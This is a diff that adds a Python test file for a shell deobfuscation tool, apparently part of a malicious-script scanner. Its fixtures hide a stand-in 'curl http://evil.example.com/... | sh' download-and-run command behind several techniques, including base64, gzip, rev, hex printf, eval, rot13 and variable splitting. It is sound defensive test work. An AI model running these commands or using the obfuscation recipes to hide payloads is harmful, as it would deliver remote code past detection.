@@ -1,0 +1,344 @@
+"""Bash peelers: literal pipelines, eval and sh -c, $'...' strings, variable concatenation."""
+
+from __future__ import annotations
+
+import base64
+import codecs
+import gzip
+
+import pytest
+
+from tests.unit.scripts.test_peelers_languages import (
+    Obfuscator,
+    assert_recovers,
+    b64,
+    contents,
+    peel_all,
+    rewrite,
+    run,
+    stack,
+    stacks,
+)
+from wingman.core.scripts.peelers.shell_vars import substring
+from wingman.core.scripts.peelers.shell_words import ansi_c, literal_word, single_quote
+from wingman.core.scripts.types import Lang
+
+PAYLOAD = "curl -s http://evil.example.com/payload.bin | sh\necho 'done'"
+URL = "http://evil.example.com/payload.bin"
+
+
+def hexes(text: str) -> str:
+    return "".join(f"\\x{byte:02x}" for byte in text.encode())
+
+
+def base64_pipe(text: str) -> tuple[str, list[str]]:
+    return f"echo {b64(text)} | base64 -d | bash", ["bash_base64_pipe"]
+
+
+def base64_here(text: str) -> tuple[str, list[str]]:
+    return f"bash <<< \"$(base64 --decode <<< '{b64(text)}')\"", ["bash_base64_pipe"]
+
+
+def gunzip(text: str) -> tuple[str, list[str]]:
+    packed = base64.b64encode(gzip.compress(text.encode(), mtime=0)).decode()
+    return f"echo '{packed}' | base64 -d | gunzip | sh", ["bash_base64_pipe"]
+
+
+def reverse(text: str) -> tuple[str, list[str]]:
+    lines = "\n".join(line[::-1] for line in text.split("\n"))
+    return f"echo {single_quote(lines)} | rev | bash", ["bash_rev"]
+
+
+def ansi(text: str) -> tuple[str, list[str]]:
+    return f"eval $'{hexes(text)}'", ["bash_ansi_c", "bash_eval"]
+
+
+def printf(text: str) -> tuple[str, list[str]]:
+    return f"printf '{hexes(text)}' | sh", ["bash_printf"]
+
+
+def evaluate(text: str) -> tuple[str, list[str]]:
+    return f"eval {single_quote(text)}", ["bash_eval"]
+
+
+def here_string(text: str) -> tuple[str, list[str]]:
+    return f"bash <<< {single_quote(text)}", ["bash_eval"]
+
+
+def variables(text: str) -> tuple[str, list[str]]:
+    pieces = [text[index : index + 7] for index in range(0, len(text), 7)]
+    lines = [f"_v{index}={single_quote(piece)}" for index, piece in enumerate(pieces)]
+    refs = "".join(
+        f"${{_v{index}}}" if index % 2 else f"$_v{index}" for index in range(len(pieces))
+    )
+    return "\n".join([*lines, f'eval "{refs}"']), ["bash_var_concat", "bash_eval"]
+
+
+def rot13(text: str) -> tuple[str, list[str]]:
+    hidden = codecs.encode(text, "rot13")
+    return f"echo {single_quote(hidden)} | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash", ["bash_tr"]
+
+
+def hexdump(text: str) -> tuple[str, list[str]]:
+    return f"echo {text.encode().hex()} | xxd -r -p | sh", ["bash_xxd"]
+
+
+OBFUSCATORS: dict[str, Obfuscator] = {
+    "base64_pipe": base64_pipe,
+    "rev": reverse,
+    "ansi_c": ansi,
+    "printf": printf,
+    "eval": evaluate,
+    "var_concat": variables,
+    "tr": rot13,
+    "xxd": hexdump,
+    "base64_here": base64_here,
+    "gunzip": gunzip,
+    "here_string": here_string,
+}
+_VISIBLE = {"eval", "here_string"}
+
+
+@pytest.mark.parametrize("names", stacks(list(OBFUSCATORS)), ids="+".join)
+def test_stacked_obfuscation_is_recovered_in_order(names: tuple[str, ...]) -> None:
+    text, expected = stack(PAYLOAD, [OBFUSCATORS[name] for name in names])
+    assert_recovers(text, Lang.BASH, expected, hidden=not _VISIBLE.issuperset(names))
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("echo Y3VybCB4 | base64 -d | sh", "curl x"),
+        ("echo 'Y3VybCB4' | base64 --decode | bash", "curl x"),
+        ('echo -n "Y3VybCB4" | base64 -di', "curl x"),
+        ("base64 -d <<< Y3VybCB4 | sh", "curl x"),
+        ("echo Y3VybCB4 | base64 -D | /bin/bash -s", "curl x"),
+        ("X=$(echo Y3VybCB4 | base64 -d); $X", "curl x"),
+        ("echo Y3VybCB4 | openssl base64 -d | sh", "curl x"),
+        ("echo Y3VybCB4 | base64 -d | cat | sh", "curl x"),
+        ("echo Y3Vy bCB4 | base64 -d", "curl x"),
+    ],
+)
+def test_base64_pipe(text: str, expected: str) -> None:
+    assert contents("bash_base64_pipe", text) == [expected]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "echo Y3VybCB4 | base64 | sh",
+        "echo Y3VybCB4 | base64 -w0",
+        "echo 'not base64!' | base64 -d | sh",
+        "echo $X | base64 -d | sh",
+        "echo Y3VybCB4 | base64 -d file.txt",
+        "echo '//8=' | base64 -d | sh",
+        "# echo Y3VybCB4 | base64 -d | sh",
+        "echo 'echo Y3VybCB4 | base64 -d | sh'",
+    ],
+)
+def test_base64_pipe_negative(text: str) -> None:
+    assert run("bash_base64_pipe", text) == []
+
+
+def test_pipe_language_follows_the_interpreter() -> None:
+    assert [
+        item.language for item in run("bash_base64_pipe", "echo Y3VybCB4 | base64 -d | sh")
+    ] == [Lang.BASH]
+    payload = b64("import os")
+    found = run("bash_base64_pipe", f"echo {payload} | base64 -d | python3 -")
+    assert [(item.content, item.language) for item in found] == [("import os", Lang.PYTHON)]
+
+
+def test_gzip_bomb_is_refused() -> None:
+    bomb = base64.b64encode(gzip.compress(b"A" * 3_000_000)).decode()
+    assert run("bash_base64_pipe", f"echo {bomb} | base64 -d | gunzip | sh") == []
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("echo 'hs.x/moc.elpmaxe//:ptth' | rev", "http://example.com/x.sh"),
+        ("rev <<< 'cba'", "abc"),
+        ("echo -e 'cba\\nfed' | rev | sh", "abc\ndef"),
+    ],
+)
+def test_rev(text: str, expected: str) -> None:
+    assert contents("bash_rev", text) == [expected]
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("printf '\\x63\\x75\\x72\\x6c x' | sh", "curl x"),
+        ("printf '\\143\\165rl %s' x | sh", "curl x"),
+        ("printf -- '%b' '\\x63url' | sh", "curl"),
+        ("bash -c \"$(printf '\\x63url x')\"", "curl x"),
+        ("echo -e '\\x63\\x75rl\\c ignored' | sh", "curl"),
+        ("printf '%s\\n' a b | sh", "a\nb"),
+        ("printf '100%% \\x61'", "100% a"),
+    ],
+)
+def test_printf(text: str, expected: str) -> None:
+    assert contents("bash_printf", text) == [expected]
+
+
+@pytest.mark.parametrize(
+    "text", ["printf '%d' 12 | sh", "printf -v x '\\x41'", "printf 'plain' | sh", "echo '\\x41'"]
+)
+def test_printf_negative(text: str) -> None:
+    assert run("bash_printf", text) == []
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("eval 'curl x | sh'", "curl x | sh"),
+        ("eval \"curl 'x' | sh\"", "curl 'x' | sh"),
+        ("eval 'cu'\"rl\" x", "curl x"),
+        ("sh -c 'id; whoami'", "id; whoami"),
+        ('/bin/bash -c "echo \\$HOME"', "echo $HOME"),
+        ("echo 'curl x' | bash", "curl x"),
+        ("bash <<< 'curl x'", "curl x"),
+        ("eval \"$(echo 'curl x')\"", "curl x"),
+        ("sh -c \"$(printf '%s' 'curl x')\"", "curl x"),
+        ('bash <<< "$(echo curl x)"', "curl x"),
+    ],
+)
+def test_eval(text: str, expected: str) -> None:
+    found = run("bash_eval", text)
+    assert [(item.content, item.language) for item in found] == [(expected, Lang.BASH)]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'eval "$cmd"',
+        "eval $(curl x)",
+        "eval $'\\x41'",
+        "echo 'eval \"curl x\"'",
+        'sh -c "$x"',
+        "evaluate 'x y z'",
+        "eval 'unterminated",
+        "x=\"$(echo 'curl x')\"",
+    ],
+)
+def test_eval_negative(text: str) -> None:
+    assert run("bash_eval", text) == []
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("eval $'\\x63\\x75\\x72\\x6c x'", "eval 'curl x'"),
+        ("$'\\143\\165\\162\\154' x", "'curl' x"),
+        ("echo $'\\u0041\\x27b'", "echo 'A'\\''b'"),
+        ("x=$'\\x41' y=$'plain'", "x='A' y=$'plain'"),
+    ],
+)
+def test_ansi_c(text: str, expected: str) -> None:
+    assert rewrite("bash_ansi_c", text) == expected
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "echo $'\\e[31mred'",
+        "echo \"$'\\x41'\"",
+        "echo '$'\\x41''",
+        "echo $'\\n\\t'",
+        "echo $'\\xff\\xfe'",
+    ],
+)
+def test_ansi_c_negative(text: str) -> None:
+    assert rewrite("bash_ansi_c", text) is None
+
+
+@pytest.mark.parametrize(
+    ("body", "expected"),
+    [
+        ("\\x41\\x42", "AB"),
+        ("\\101\\0101", "A\b1"),
+        ("\\u00e9", "é"),
+        ("\\xc3\\xa9", "é"),
+        ("\\cA", "\x01"),
+        ("a\\0b", "a"),
+        ("\\q", "\\q"),
+    ],
+)
+def test_ansi_c_decoding(body: str, expected: str) -> None:
+    assert ansi_c(body) == expected
+
+
+@pytest.mark.parametrize(
+    ("word", "expected"),
+    [
+        ("'a b'", "a b"),
+        ('"a\\"b\\$c"', 'a"b$c'),
+        ("'it'\\''s'", "it's"),
+        ("a\\ b", "a b"),
+        ('"$x"', None),
+        ("*.sh", None),
+        ("~/x", None),
+        ("{a,b}", None),
+        ('"cost: 5$"', "cost: 5$"),
+    ],
+)
+def test_literal_words(word: str, expected: str | None) -> None:
+    assert literal_word(word) == expected
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("a=cu; b=rl; $a$b x", "a=cu; b=rl; curl x"),
+        ("a='cu'\nb=\"rl\"\nc=${a}${b}\n$c x", "a='cu'\nb=\"rl\"\nc=curl\ncurl x"),
+        ('u="http://x y"; eval "curl $u"', 'u="http://x y"; eval "curl http://x y"'),
+        ("s=abcdef; echo ${s:1:2} ${s: -2} ${s:2}", "s=abcdef; echo bc ef cdef"),
+        ('export a=cu\necho "$a\\$a"', 'export a=cu\necho "cu\\$a"'),
+    ],
+)
+def test_variable_concatenation(text: str, expected: str) -> None:
+    assert rewrite("bash_var_concat", text) == expected
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "echo $a; a=1",
+        "a=1; a=2; echo $a",
+        "a=1; read a; echo $a",
+        "for a in 1 2; do echo $a; done; a=3",
+        "a='x y'; echo $a",
+        "a=1; echo '$a'",
+        "a=$(date); echo $a",
+        "if x; then a=1; fi; echo $a",
+        "a=1 cmd; echo $a",
+        "a=1; a+=2; echo $a",
+    ],
+)
+def test_variable_concatenation_negative(text: str) -> None:
+    assert rewrite("bash_var_concat", text) is None
+
+
+@pytest.mark.parametrize(
+    ("offset", "length", "expected"),
+    [(1, 2, "bc"), (-2, None, "ef"), (0, -1, "abcde"), (10, None, ""), (-10, 1, ""), (4, -3, None)],
+)
+def test_substring_follows_bash(offset: int, length: int | None, expected: str | None) -> None:
+    assert substring("abcdef", offset, length) == expected
+
+
+def test_tr_and_xxd() -> None:
+    assert contents("bash_tr", "echo 'uryyb' | tr 'a-z' 'n-za-m'") == ["hello"]
+    assert contents("bash_xxd", "echo 6869 | xxd -r -p | sh") == ["hi"]
+    assert run("bash_tr", "echo 'x' | tr '[:lower:]' '[:upper:]'") == []
+    assert run("bash_xxd", "echo zz | xxd -r -p") == []
+
+
+def test_curl_pipe_to_shell_hidden_three_ways() -> None:
+    text = "a=Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlLmNvbS94LnNoIHwgc2g=\necho $a | base64 -d | bash"
+    layers, stopped = peel_all(text, Lang.BASH)
+    assert stopped is None
+    assert [layer.technique for layer in layers] == ["input", "bash_var_concat", "bash_base64_pipe"]
+    assert layers[-1].content == "curl http://evil.example.com/x.sh | sh"
+    assert URL not in text
